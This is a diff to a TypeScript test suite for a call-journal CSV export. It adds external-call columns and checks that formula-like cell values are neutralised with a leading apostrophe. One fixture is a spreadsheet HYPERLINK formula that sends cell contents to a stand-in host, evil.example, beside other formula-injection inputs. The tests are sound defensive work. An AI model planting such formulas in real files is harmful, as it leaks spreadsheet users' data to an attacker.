@@ -54,6 +54,8 @@ const FIXED = [
   'trunks',
   'recording_url',
 ];
+/** The journal export's columns of an external call's origin (empty for ours). */
+const EXTERNAL = ['source', 'external_id', 'direction', 'from', 'to'];
 
 let db: Pool;
 let alice: { id: string; token: string };
@@ -196,7 +198,17 @@ test('the journal export holds what the journal API shows, hostile text inert an
   const { header, records } = await download(alice.token, `/api/v1/calls/export?campaignId=${seed.campaignId}`);
   const names = ['=cmd', '@at', 'city', 'extra', 'note, "quoted"', 'outcome', 'tab'];
   // Names sorted by code point; formula-like ones inert, one that is a fixed column's renamed.
-  expect(header).toEqual([...FIXED, "'=cmd", "'@at", 'city', 'extra', 'note, "quoted"', 'contact:outcome', 'tab']);
+  expect(header).toEqual([
+    ...FIXED,
+    ...EXTERNAL,
+    "'=cmd",
+    "'@at",
+    'city',
+    'extra',
+    'note, "quoted"',
+    'contact:outcome',
+    'tab',
+  ]);
   expect(records.map((r) => r[0])).toEqual(views.map((v) => v.id));
   records.forEach((record, i) => {
     const v = views[i];
@@ -215,11 +227,11 @@ test('the journal export holds what the journal API shows, hostile text inert an
     if (v.id === seed.answered) expect(record[15]).toMatch(/^[0-9a-f-]{36}:-;[0-9a-f-]{36}:200$/);
     if (v.recordingUrl === null) expect(record[16]).toBe('');
     else expect(record[16]).toMatch(new RegExp(`^https?://[^/]+${v.recordingUrl}$`));
-    expect(record.slice(17).map(unguard)).toEqual(names.map((n) => v.variables[n] ?? ''));
+    expect(record.slice(17 + EXTERNAL.length).map(unguard)).toEqual(names.map((n) => v.variables[n] ?? ''));
   });
   // The cells exactly: a leading ' where a spreadsheet would see a formula, nowhere else.
   const answered = records[0];
-  expect(answered.slice(17)).toEqual([
+  expect(answered.slice(17 + EXTERNAL.length)).toEqual([
     `'=HYPERLINK("https://evil.example/?"&A1,"Fix")`,
     `'-1+2`,
     'Zoë 東京 🎉',
@@ -229,7 +241,7 @@ test('the journal export holds what the journal API shows, hostile text inert an
     `'\t=1+1`,
   ]);
   expect(records[2][6]).toBe(`'=Busy, "here"\r\n`);
-  expect(records[1].slice(17)).toEqual(['', '', 'Paris', "'@x", '', '', '']);
+  expect(records[1].slice(17 + EXTERNAL.length)).toEqual(['', '', 'Paris', "'@x", '', '', '']);
 });
 
 test('campaign results: one record per contact in file order with its final outcome, or per attempt', async () => {
@@ -273,10 +285,10 @@ test("another owner's rows never appear, and their campaign's results are 404", 
   );
   const bobs = await download(bob.token, `/api/v1/calls/export?campaignId=${seed.campaignId}`);
   expect(bobs.records).toEqual([]);
-  expect(bobs.header).toEqual(FIXED);
+  expect(bobs.header).toEqual([...FIXED, ...EXTERNAL]);
   const byPhone = await download(bob.token, `/api/v1/calls/export?phone=${encodeURIComponent(seed.phones[0])}`);
   expect(byPhone.records.map((r) => r[0])).toEqual([seed.bobs]);
-  expect(byPhone.header).toEqual([...FIXED, 'secret']);
+  expect(byPhone.header).toEqual([...FIXED, ...EXTERNAL, 'secret']);
 
   const all = await download(alice.token, '/api/v1/calls/export');
   const ids = new Set(all.records.map((r) => r[0]));
